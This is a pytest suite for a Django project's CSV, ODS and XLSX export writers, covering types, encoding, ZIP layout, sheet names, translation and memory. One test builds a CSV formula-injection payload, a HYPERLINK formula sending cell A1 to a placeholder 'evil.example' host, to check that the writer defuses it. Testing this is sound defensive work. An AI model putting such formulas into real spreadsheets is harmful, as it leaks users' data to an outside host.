"""The spreadsheet writers, their files read back by what people's tools use: Python's
`csv` module, python-calamine (pandas' reader) and odfpy, not by the writers."""

from __future__ import annotations

import csv
import datetime
import io
import re
import struct
import tempfile
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator, Sequence
from decimal import Decimal
from typing import Any

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy
from odf import teletype
from odf.opendocument import load as odf_load
from odf.table import Table as OdfTable
from odf.table import TableCell, TableRow
from odf.text import P
from python_calamine import CalamineWorkbook

from tissage.core.spreadsheets import (
    CONTENT_TYPES,
    FORMATS,
    ODS_MIMETYPE,
    Sheet,
    csv_stream,
    ods_stream,
    ods_write,
    text_blocks,
    xlsx_bytes,
    xlsx_write,
)

MOMENT = datetime.datetime(2026, 6, 1, 9, 0, 5)
DAY = datetime.date(2026, 6, 1)
TRICKY = "  deux  espaces\tune tabulation\r\nune ligne\rretour _x0041_ =1+1 \x01fin "
TYPED = ["Texte", 4.36789, Decimal("2.50"), 12, True, False, DAY, MOMENT, None]
HEADER = ["texte", "nombre", "décimal", "entier", "oui", "non", "jour", "moment", "vide"]


def workbook(fmt: str, sheets: Sequence[Sheet], **options: Any) -> bytes:
    if fmt == "ods":
        return b"".join(ods_stream(sheets, **options))
    return xlsx_bytes(sheets, **options)


def calamine(data: bytes, sheet: str) -> list[list[Any]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(sheet).to_python()


def csv_lines(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_of(sheet: Sheet, **options: Any) -> bytes:
    return b"".join(csv_stream(sheet, **options))


# CSV --------------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_rfc_4180_and_crlf():
    sheet = Sheet("S", [['a "quoted", word', "deux\nlignes", "Église"]], header=["x", "y", "z"])
    data = csv_of(sheet)
    assert data.startswith("\ufeffx,y,z\r\n".encode())
    assert b'"a ""quoted"", word","deux\nlignes",\xc3\x89glise\r\n' in data
    assert csv_lines(data) == [["x", "y", "z"], ['a "quoted", word', "deux\nlignes", "Église"]]


def test_csv_writes_each_type_as_programs_read_it():
    assert csv_lines(csv_of(Sheet("S", [TYPED], header=HEADER)))[1] == [
        "Texte",
        "4.36789",
        "2.50",  # Decimals exact, as the database holds them
        "12",
        "true",
        "false",
        "2026-06-01",
        "2026-06-01T09:00:05",
        "",
    ]


def test_csv_datetimes_as_the_spreadsheet_cells_show_them():
    data = csv_of(Sheet("S", [[MOMENT, DAY]]), datetimes="minutes")
    assert csv_lines(data) == [["2026-06-01 09:00", "2026-06-01"]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_csv_defuses_formulas(start):
    text = start + 'HYPERLINK("http://evil.example/?"&A1)'
    sheet = Sheet("S", [[text, -3, Decimal("-1.5")]], header=[start + "x"])
    header, row = csv_lines(csv_of(sheet))
    assert header == ["'" + start + "x"]
    assert row == ["'" + text, "-3", "-1.5"]  # numbers are numbers, not formulas


def test_csv_without_header_nor_rows_is_just_the_bom():
    assert csv_of(Sheet("S", [])) == b"\xef\xbb\xbf"


class RowsRead:
    """`count` rows made one at a time by `make`, as from the database; `read` says how
    many the writer took so far."""

    def __init__(self, count: int, make: Callable[[int], list[str]]) -> None:
        self.count, self.make, self.read = count, make, 0

    def __iter__(self) -> Iterator[list[str]]:
        for n in range(self.count):
            self.read += 1
            yield self.make(n)


def test_csv_streams_in_blocks_while_rows_are_read():
    rows = RowsRead(20_000, lambda n: [f"ligne {n}", "x" * 20])
    chunks = csv_stream(Sheet("S", rows))
    first = next(chunks)
    assert 64 * 1024 <= len(first) < 70 * 1024
    assert rows.read < 20_000
    assert len(csv_lines(first + b"".join(chunks))) == 20_000


def test_text_blocks_gather_pieces_into_utf8_blocks_of_about_the_size_asked():
    pieces = iter(["é" * 3, "ab", "c" * 10, "d"])
    blocks = text_blocks(pieces, size=5)
    assert next(blocks) == ("é" * 3 + "ab").encode()
    assert next(pieces) == "c" * 10  # nothing read ahead of the block it ends
    assert list(blocks) == [b"d"]
    assert list(text_blocks([])) == []


# ODS and XLSX -----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_cells_keep_their_types(fmt):
    data = workbook(fmt, [Sheet("Fiches", [TYPED], header=HEADER)])
    header, row = calamine(data, "Fiches")
    assert header == HEADER
    assert row == ["Texte", 4.36789, 2.5, 12, True, False, DAY, MOMENT, ""]
    assert type(row[3]) is float and type(row[4]) is bool


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_text_stays_text(fmt):
    texts = ["=1+1", "0123", "1e5", "http://example.org", "TRUE", "2026-06-01", "-3"]
    data = workbook(fmt, [Sheet("S", [texts])])
    assert calamine(data, "S") == [texts]


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_spaces_tabs_and_line_breaks_come_back(fmt):
    data = workbook(fmt, [Sheet("S", [[TRICKY, "a \t b", " un "]])])
    expected = [TRICKY, "a \t b", " un "]
    if fmt == "ods":
        expected[0] = TRICKY.replace("\x01", "")  # XML 1.0 cannot carry it
    assert calamine(data, "S") == [expected]


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_characters_no_xml_can_hold_never_break_the_file(fmt):
    bad = "nul\x00 bell\x07 ffff\uffff lone\ud800 fin"
    data = workbook(fmt, [Sheet("S", [[bad]], header=[bad])])
    header, row = calamine(data, "S")
    assert header[0].startswith("nul") and header[0].endswith("fin")
    assert "lone\ufffd" in row[0] and "\uffff" not in row[0]


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_numbers_that_are_not_finite_are_written_as_text(fmt):
    row = [float("nan"), float("inf"), Decimal("-Infinity"), Decimal("sNaN")]
    assert calamine(workbook(fmt, [Sheet("S", [row])]), "S") == [
        ["nan", "inf", "-Infinity", "sNaN"]
    ]


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_an_about_sheet_written_after_the_rows_it_counts(fmt):
    """The inventories' "À propos": labels in bold, filled from what the rows saw."""
    seen: list[str] = []

    def items() -> Iterator[list[str]]:
        for name in ["Jeanne", "Paul"]:
            seen.append(name)
            yield [name]

    def about() -> list[list[Any]]:
        return [["Nombre de fiches", len(seen)], ["", None], ["Contributeurs", ", ".join(seen)]]

    sheets = [Sheet("Fiches", items(), header=["nom"]), Sheet("À propos", about, label_column=True)]
    data = workbook(fmt, sheets)
    assert calamine(data, "Fiches") == [["nom"], ["Jeanne"], ["Paul"]]
    assert calamine(data, "À propos") == [
        ["Nombre de fiches", 2],
        ["", ""],
        ["Contributeurs", "Jeanne, Paul"],
    ]
    assert bold_cells(fmt, data) == {
        "Fiches": [(0, 0)],
        "À propos": [(0, 0), (1, 0), (2, 0)],
    }


def bold_cells(fmt: str, data: bytes) -> dict[str, list[tuple[int, int]]]:
    """(row, column) of the cells written in bold, sheet by sheet."""
    package = zipfile.ZipFile(io.BytesIO(data))
    if fmt == "ods":
        document = odf_load(io.BytesIO(data))
        found: dict[str, list[tuple[int, int]]] = {}
        for table in document.spreadsheet.getElementsByType(OdfTable):
            cells = found.setdefault(table.getAttribute("name"), [])
            for r, row in enumerate(table.getElementsByType(TableRow)):
                for c, cell in enumerate(row.getElementsByType(TableCell)):
                    if cell.getAttribute("stylename") == "ch":
                        cells.append((r, c))
        return found
    styles = package.read("xl/styles.xml").decode()
    fonts = re.findall(r"<font>.*?</font>|<font/>", re.search(r"<fonts.*?</fonts>", styles)[0])
    formats = re.findall(r"<xf [^>]*>", re.search(r"<cellXfs.*?</cellXfs>", styles)[0])
    bold = {
        n
        for n, xf in enumerate(formats)
        if "<b/>" in fonts[int(re.search(r'fontId="(\d+)"', xf)[1])]
    }
    names = re.findall(r'<sheet name="([^"]+)"', package.read("xl/workbook.xml").decode())
    result = {}
    for n, name in enumerate(names, start=1):
        sheet = package.read(f"xl/worksheets/sheet{n}.xml").decode()
        result[name.replace("&#192;", "À")] = [
            (int(r) - 1, ord(c) - ord("A"))
            for c, r, s in re.findall(r'<c r="([A-Z])(\d+)" s="(\d+)"', sheet)
            if int(s) in bold
        ]
    return result


def test_ods_is_a_package_libreoffice_and_odfpy_open():
    data = b"".join(ods_stream([Sheet("Fiches", [TYPED], header=HEADER), Sheet("Deux", [[1]])]))
    package = zipfile.ZipFile(io.BytesIO(data))
    assert package.testzip() is None
    assert [i.filename for i in package.infolist()] == [
        "mimetype",
        "META-INF/manifest.xml",
        "content.xml",
    ]
    mimetype = package.infolist()[0]
    assert mimetype.compress_type == zipfile.ZIP_STORED
    assert package.getinfo("content.xml").compress_type == zipfile.ZIP_DEFLATED
    # Sniffable: the type's name at byte 38; no extra field, no data descriptor after a
    # stored entry (LibreOffice 24.8.2+ calls such a file corrupt), no ZIP64 anywhere
    # (not every ODF reader has it).
    assert data[30:38] == b"mimetype" and data[38:84] == ODS_MIMETYPE.encode()
    for info in package.infolist():
        flags, method, extra_len = local_flags_method_extra(data, info)
        assert not (method == 0 and flags & 0x08), info.filename
        assert extra_len == 0 and info.extra == b"", info.filename

    document = odf_load(io.BytesIO(data))
    tables = document.spreadsheet.getElementsByType(OdfTable)
    assert [t.getAttribute("name") for t in tables] == ["Fiches", "Deux"]
    cells = tables[0].getElementsByType(TableRow)[1].getElementsByType(TableCell)
    assert [(c.getAttribute("valuetype"), teletype.extractText(c)) for c in cells[:8]] == [
        ("string", "Texte"),
        ("float", "4.36789"),
        ("float", "2.5"),
        ("float", "12"),
        ("boolean", "true"),
        ("boolean", "false"),
        ("date", "2026-06-01"),
        ("date", "2026-06-01T09:00:05"),
    ]
    assert cells[6].getAttribute("datevalue") == "2026-06-01"
    assert cells[7].getAttribute("datevalue") == "2026-06-01T09:00:05"
    assert cells[4].getAttribute("booleanvalue") == "true"


def local_flags_method_extra(data: bytes, info: zipfile.ZipInfo) -> tuple[int, int, int]:
    at = info.header_offset
    flags, method = struct.unpack("<HH", data[at + 6 : at + 10])
    (extra_len,) = struct.unpack("<H", data[at + 28 : at + 30])
    return flags, method, extra_len


def test_odfpy_reads_spaces_tabs_and_lines():
    texts = ["  deux  espaces\tune tabulation ", "a \t b", "ligne 1\n ligne 2 "]
    data = b"".join(ods_stream([Sheet("S", [texts])]))
    cells = odf_load(io.BytesIO(data)).spreadsheet.getElementsByType(TableCell)
    assert [teletype.extractText(c) for c in cells[:2]] == texts[:2]
    lines = [teletype.extractText(p) for p in cells[2].getElementsByType(P)]
    assert lines == ["ligne 1", " ligne 2 "]  # one paragraph per line


def test_ods_streams_while_rows_are_read():
    rows = RowsRead(50_000, lambda n: [f"fiche {n}", "texte " * 5])
    data, reads_at_chunk = b"", []
    for chunk in ods_stream([Sheet("S", rows)]):
        data += chunk
        reads_at_chunk.append(rows.read)
    assert any(0 < n < 50_000 for n in reads_at_chunk), "bytes sent while rows are read"
    assert len(calamine(data, "S")) == 50_000


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_write_into_a_file(fmt, tmp_path):
    path = tmp_path / f"f.{fmt}"
    with path.open("wb") as out:
        (ods_write if fmt == "ods" else xlsx_write)([Sheet("S", [["x", 1]])], out)
    assert calamine(path.read_bytes(), "S") == [["x", 1]]


# Sheets, languages, formats ---------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["", "x" * 32, "a/b", "a:b", "a[1]", "a*", "a?", "a\\b", "'quoted'", "History"],
)
def test_a_sheet_name_a_spreadsheet_refuses_is_refused_at_once(name):
    with pytest.raises(ValueError, match=r"Sheet name|History"):
        Sheet(name, [])


@pytest.mark.parametrize("write", [lambda s: b"".join(ods_stream(s)), xlsx_bytes])
def test_two_sheets_of_one_name_are_refused(write: Callable[[list[Sheet]], bytes]):
    with pytest.raises(ValueError, match="Two sheets"):
        write([Sheet("Heures", []), Sheet("heures", [])])


@pytest.mark.parametrize("fmt", ["csv", "ods", "xlsx"])
def test_rows_are_made_in_the_files_language_which_never_leaks(fmt):
    languages: list[str | None] = []

    def rows() -> Iterator[list[Any]]:
        for _ in range(2):
            languages.append(translation.get_language())
            yield [gettext_lazy("Yes")]

    sheet = Sheet("S", rows(), header=[gettext_lazy("No")])
    with translation.override("en"):
        if fmt == "csv":
            chunks = csv_stream(sheet, language="fr")
            data = next(chunks)
            assert translation.get_language() == "en"  # between two chunks
            data += b"".join(chunks)
            values = csv_lines(data)
        else:
            values = calamine(workbook(fmt, [sheet], language="fr"), "S")
        assert translation.get_language() == "en"
    assert languages == ["fr", "fr"]
    assert values == [["Non"], ["Oui"], ["Oui"]]


def test_content_types_of_every_format():
    assert set(CONTENT_TYPES) == set(FORMATS)
    assert CONTENT_TYPES["csv"] == "text/csv; charset=utf-8"
    assert CONTENT_TYPES["ods"] == ODS_MIMETYPE


# Memory -----------------------------------------------------------------------------------


def peak_memory(write: Callable[[Sheet], None], count: int) -> int:
    def rows() -> Iterator[list[Any]]:
        for n in range(count):
            yield [n, f"Fiche numéro {n}", "Lavoir couvert, toit de tuiles", 43.8 + n / 1e6, DAY]

    tracemalloc.start()
    try:
        write(Sheet("Fiches", rows(), header=["id", "titre", "description", "lat", "jour"]))
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def xlsx_to_disk(sheet: Sheet) -> None:
    with tempfile.TemporaryFile() as out:
        xlsx_write([sheet], out)


def drain(chunks: Iterator[bytes]) -> None:
    for _ in chunks:
        pass


@pytest.mark.parametrize(
    "write",
    [
        lambda sheet: drain(csv_stream(sheet)),
        lambda sheet: drain(ods_stream([sheet])),
        lambda sheet: xlsx_to_disk(sheet),
    ],
    ids=["csv", "ods", "xlsx"],
)
def test_memory_stays_flat_when_rows_grow_tenfold(write):
    """bench/spreadsheets_memory.py measures 10,000 against 100,000 rows; here 2,000
    against 20,000 keeps the suite fast."""
    small, large = peak_memory(write, 2_000), peak_memory(write, 20_000)
    assert large < small * 1.3, (small, large)
